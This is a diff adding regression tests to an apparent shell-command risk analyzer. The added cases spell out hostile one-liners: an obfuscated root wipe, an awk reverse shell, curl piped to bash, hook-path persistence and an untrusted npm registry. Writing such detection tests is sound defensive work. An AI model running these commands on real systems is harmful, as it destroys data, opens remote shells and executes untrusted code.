@@ -316,3 +316,18 @@ def test_a_script_on_stdin_is_judged_by_where_it_came_from(
 ) -> None:
     tags = analyze_command(command).tags & {"download_exec", "opaque"}
     assert tags == expected
+
+
+@pytest.mark.parametrize(
+    ("command", "tag"),
+    [
+        # written after the first round, missed by it, fixed since (kept as regressions)
+        ("IFS=,;c=rm,-rf,/;$c", "wipe_root"),
+        ("awk 'BEGIN {s = \"/inet/tcp/0/10.0.0.2/4444\"; s |& getline c}'", "reverse_shell"),
+        ("(curl -s https://e.example/x) | bash", "download_exec"),
+        ("git config --global core.hooksPath /tmp/hooks", "persistence"),
+        ("npm config set registry http://10.1.2.3:4873", "untrusted_package_source"),
+    ],
+)
+def test_second_round_attacks(command: str, tag: str) -> None:
+    assert tag in analyze_command(command).tags
